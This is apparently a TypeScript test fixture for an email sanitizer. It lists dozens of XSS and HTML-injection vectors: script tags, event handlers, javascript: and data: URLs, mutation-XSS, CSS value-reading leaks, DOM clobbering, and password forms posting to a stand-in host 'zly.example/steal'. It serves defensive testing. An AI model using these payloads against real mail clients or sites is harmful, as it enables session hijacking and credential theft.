/** Owns the list of what a hostile mail may carry to whoever opens it. `PWN` and `FETCH` would be seen if they ran. */

/** Leaves a mark in every window it can reach. */
const PWN = "window.pwned=1;try{top.pwned=1}catch(e){};alert('pwned')"
/** Where nothing must ever be asked for. */
export const OUTSIDE = 'http://zly.example'

export const BODIES: [name: string, html: string][] = [
  ['script', `<script>${PWN}</script>`],
  ['script from outside', `<script src="${OUTSIDE}/a.js"></script>`],
  ['script in odd case and blanks', `<ScRiPt\t>${PWN}</sCrIpT\n>`],
  ['script broken by a NUL', `<scr\0ipt>${PWN}</scr\0ipt>`],
  ['script within a script', `<scr<script>x</script>ipt>${PWN}</script>`],
  ['script with a slash for a blank', `<script/src=${OUTSIDE}/b.js></script>`],
  ['script type module', `<script type="module">import '${OUTSIDE}/m.js'</script>`],
  ['script left open', `<script>${PWN}//`],
  ['onerror of a picture', `<img src="x:" onerror="${PWN}">`],
  ['onerror without quotes', `<img src=x: onerror=${PWN.replaceAll(' ', '')}>`],
  ['onerror after a slash', `<img/src="x:"/onerror="${PWN}"/>`],
  ['onerror with entities', `<img src="x:" onerror="&#119;indow.pwned=1;&#97;lert(1)">`],
  ['onload of the body', `<body onload="${PWN}">tekst</body>`],
  ['onfocus with autofocus', `<input autofocus onfocus="${PWN}"><a href="#" onfocus="${PWN}" autofocus tabindex="0">x</a>`],
  ['ontoggle of details', `<details open ontoggle="${PWN}"><summary>x</summary></details>`],
  ['onanimationstart', `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${PWN}">x</b>`],
  ['onbegin of an SVG animation', `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"></svg>`],
  ['onpointerenter over everything', `<div style="position:fixed;inset:0;z-index:99999" onpointerenter="${PWN}" onclick="${PWN}">x</div>`],
  ['an event handler after a broken quote', `<img src="a.png" alt="x' onerror='${PWN}" title=">" onerror="${PWN}">`],
  ['an attribute that is closed early', `<p title="&quot;&gt;<img src=x: onerror=${PWN.replaceAll(' ', '')}>">x</p>`],
  ['javascript: in a link', `<a href="javascript:${PWN}">kliknij</a>`],
  ['javascript: with line ends and tabs', `<a href="java\nscr\tipt:${PWN}">kliknij</a>`],
  ['javascript: with entities', `<a href="&#x6a;&#97;vascript&colon;${PWN}">kliknij</a>`],
  ['javascript: after control characters', `<a href="\u0001\u0008 javascript:${PWN}">kliknij</a>`],
  ['javascript: in odd case', `<a href="JaVaScRiPt:${PWN}">kliknij</a>`],
  ['vbscript: and livescript:', `<a href="vbscript:msgbox(1)">a</a><a href="livescript:${PWN}">b</a>`],
  ['data: page in a link', `<a href="data:text/html,<script>${PWN}</script>">kliknij</a>`],
  ['data: page in base64', `<a href="data:text/html;base64,${Buffer.from(`<script>${PWN}</script>`).toString('base64')}">kliknij</a>`],
  ['blob: and filesystem:', '<a href="blob:http://127.0.0.1/x">a</a><a href="filesystem:http://127.0.0.1/x">b</a>'],
  ['xlink:href in SVG', `<svg><a xlink:href="javascript:${PWN}"><text y="20">kliknij</text></a></svg>`],
  ['SVG with a script', `<svg><script>${PWN}</script></svg>`],
  ['SVG onload', `<svg onload="${PWN}"></svg>`],
  ['SVG use from outside', `<svg><use href="${OUTSIDE}/a.svg#x"></use><image href="${OUTSIDE}/b.png"/></svg>`],
  ['SVG foreignObject', `<svg><foreignObject><iframe srcdoc="<script>${PWN}</script>"></iframe></foreignObject></svg>`],
  ['SVG set of href', `<svg><a><set attributeName="href" to="javascript:${PWN}"/><text y="20">x</text></a></svg>`],
  [
    'SVG as a data: picture',
    `<img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='${PWN.replaceAll("'", '&quot;')}'/>">`,
  ],
  ['CSS background from outside', `<div style="background:url(${OUTSIDE}/c.png)">x</div>`],
  [
    'CSS background in other ways',
    `<div style="background-image:image-set('${OUTSIDE}/d.png' 1x);list-style-image:url(${OUTSIDE}/e.png);cursor:url(${OUTSIDE}/f.cur),auto">x</div>`,
  ],
  ['CSS with escapes', `<div style="background:\\75 rl(${OUTSIDE}/g.png)">x</div>`],
  ['CSS @import', `<style>@import url(${OUTSIDE}/h.css); body{background:url(${OUTSIDE}/i.png)}</style>`],
  ['CSS @font-face', `<style>@font-face{font-family:x;src:url(${OUTSIDE}/j.woff)}*{font-family:x}</style>`],
  ['CSS that reads values', `<style>input[value^="a"]{background:url(${OUTSIDE}/k)}</style><input value="abc">`],
  [
    'CSS expression and behavior',
    `<div style="width:expression(${PWN.replaceAll('"', '')});behavior:url(${OUTSIDE}/l.htc);-moz-binding:url(${OUTSIDE}/m.xml)">x</div>`,
  ],
  ['CSS through var()', `<div style="--x:url(${OUTSIDE}/n.png);background:var(--x)">x</div>`],
  [
    'an overlay over the page',
    `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff"><a href="${OUTSIDE}/login">Zaloguj się ponownie</a></div>`,
  ],
  ['an overlay by margins', '<div style="margin-top:-9999px;margin-left:-9999px;width:9999px;height:9999px;background:red">x</div>'],
  [
    'a link to a stylesheet',
    `<link rel="stylesheet" href="${OUTSIDE}/o.css"><link rel="preload" as="image" href="${OUTSIDE}/p.png"><link rel="dns-prefetch" href="//zly.example">`,
  ],
  [
    'prefetch and preconnect',
    `<link rel="prefetch" href="${OUTSIDE}/q"><link rel="preconnect" href="${OUTSIDE}"><link rel="icon" href="${OUTSIDE}/fav.ico">`,
  ],
  [
    'a form that sends',
    `<form action="${OUTSIDE}/steal" method="post"><input name="password" type="password"><button>Zaloguj</button></form>`,
  ],
  [
    'a button that takes over a form',
    `<button form="reply-form" formaction="${OUTSIDE}/steal">Wyślij</button><input form="reply-form" name="to" value="zly@zly.example">`,
  ],
  ['isindex and image inputs', `<isindex action="${OUTSIDE}/x"><input type="image" src="${OUTSIDE}/r.png" onerror="${PWN}">`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${OUTSIDE}/s">`],
  ['meta refresh to javascript:', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${PWN}">`],
  [
    'meta with a policy of its own',
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${PWN}</script>`,
  ],
  ['base', `<base href="${OUTSIDE}/"><img src="t.png"><a href="x">y</a>`],
  ['iframe', `<iframe src="${OUTSIDE}/u"></iframe>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>${PWN}</script>"></iframe>`],
  ['iframe javascript:', `<iframe src="javascript:${PWN}"></iframe>`],
  ['frameset', `<frameset onload="${PWN}"><frame src="${OUTSIDE}/v"></frameset>`],
  [
    'object and embed',
    `<object data="${OUTSIDE}/w.swf" type="application/x-shockwave-flash"></object><embed src="${OUTSIDE}/x.svg"><object data="javascript:${PWN}"></object>`,
  ],
  ['applet and param', `<applet code="x" codebase="${OUTSIDE}/"><param name="src" value="${OUTSIDE}/y"></applet>`],
  [
    'portal, fencedframe and webview',
    `<portal src="${OUTSIDE}/z"></portal><fencedframe src="${OUTSIDE}/z"></fencedframe><webview src="${OUTSIDE}/z"></webview>`,
  ],
  ['MathML with a link', `<math><a xlink:href="javascript:${PWN}" href="javascript:${PWN}"><mi>x</mi></a></math>`],
  [
    'mutation by MathML',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${PWN.replaceAll(' ', '')}&gt;">`,
  ],
  ['mutation by noscript', `<noscript><p title="</noscript><img src=x: onerror=${PWN.replaceAll(' ', '')}>"></noscript>`],
  [
    'mutation by a form within a form',
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${PWN.replaceAll(' ', '')} src=x:>">`,
  ],
  ['mutation by a template', `<template><script>${PWN}</script></template><svg><template><img src=x: onerror="${PWN}"></template></svg>`],
  ['mutation by a comment', `<!--><img src=x: onerror="${PWN}">--><!-- --!><img src=x: onerror="${PWN}">-->`],
  ['mutation by CDATA', `<svg><![CDATA[><img src=x: onerror="${PWN}">]]></svg>`],
  [
    'mutation by textarea, title and xmp',
    `<textarea></textarea><title><img src=x: onerror="${PWN}"></title><xmp><script>${PWN}</script></xmp><plaintext><script>${PWN}</script>`,
  ],
  ['a conditional comment', `<!--[if true]><script>${PWN}</script><![endif]-->`],
  ['a processing instruction', `<?xml-stylesheet href="javascript:${PWN}"?><?php echo 1 ?><p>x</p>`],
  [
    'pictures from outside',
    `<img src="${OUTSIDE}/1.png"><img srcset="${OUTSIDE}/2.png 2x"><picture><source srcset="${OUTSIDE}/3.png"><img src="//zly.example/4.png"></picture>`,
  ],
  [
    'pictures in old ways',
    `<table background="${OUTSIDE}/5.png"><tr><td background="${OUTSIDE}/6.png">x</td></tr></table><img lowsrc="${OUTSIDE}/7.png" dynsrc="${OUTSIDE}/8.avi"><body background="${OUTSIDE}/9.png">`,
  ],
  [
    'sound and film',
    `<video src="${OUTSIDE}/a.mp4" poster="${OUTSIDE}/a.png" autoplay onplay="${PWN}"></video><audio src="${OUTSIDE}/b.mp3" autoplay></audio><track src="${OUTSIDE}/c.vtt"><bgsound src="${OUTSIDE}/d.mid">`,
  ],
  ['a ping and a download', `<a href="${OUTSIDE}/d" ping="${OUTSIDE}/ping" download>x</a>`],
  ['a picture that is a page', '<img src="/logout"><img src="/desk/bulk?close=all"><img src="../../login">'],
  [
    'attributes of htmx',
    `<div hx-get="/desk/tickets/1" hx-trigger="load" hx-on:load="${PWN}" hx-vals="js:{a:alert(1)}" data-hx-post="/logout" hx-sse:connect="${OUTSIDE}">x</div>`,
  ],
  [
    'ids and names that take over ours',
    '<img name="body"><a id="reply-form" name="forms">x</a><form id="csrf"><input name="attributes"></form><a id="location" href="x">y</a>',
  ],
  [
    'custom elements and shadow roots',
    `<x-a onclick="${PWN}" is="x"></x-a><div><template shadowrootmode="open"><script>${PWN}</script></template></div>`,
  ],
]

/** For subjects, names of senders and names of files: each is text, and is shown as text. */
export const WORDS: string[] = [
  `<script>${PWN}</script>`,
  `"><img src=x: onerror="${PWN}">`,
  `'-alert(1)-'`,
  '</title><svg/onload=alert(1)>',
  '</textarea><script>window.pwned=1</script>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  `<iframe src=${OUTSIDE}/subject></iframe>`,
  `<base href=${OUTSIDE}/><meta http-equiv=refresh content="0;url=${OUTSIDE}">`,
  `--><style>@import url(${OUTSIDE}/s.css)</style>`,
  '\u202Egnp.exe\u202C <b>tłusto</b>',
  `" onmouseover="${PWN}" style="position:fixed;inset:0" x="`,
]

/** Files that a browser would run if it showed them. */
export const FILES: { name: string; type: string; content: string }[] = [
  { name: 'strona.html', type: 'text/html', content: `<script>${PWN};fetch('${OUTSIDE}/html')</script>` },
  {
    name: 'obraz.svg',
    type: 'image/svg+xml',
    content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"><image href="${OUTSIDE}/svg.png"/></svg>`,
  },
  {
    name: 'dane.xml',
    type: 'application/xml',
    content: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${OUTSIDE}/x.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${PWN}</h:script></x>`,
  },
  {
    name: 'strona.xhtml',
    type: 'application/xhtml+xml',
    content: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${PWN}</script></html>`,
  },
  { name: 'zdjecie.png', type: 'text/html', content: `<script>${PWN}</script>` },
  { name: 'skrypt.js', type: 'text/javascript', content: PWN },
  { name: 'mail.mht', type: 'application/x-mimearchive', content: `<script>${PWN}</script>` },
  { name: 'bez-typu', type: 'application/octet-stream', content: `<html><script>${PWN}</script>` },
]
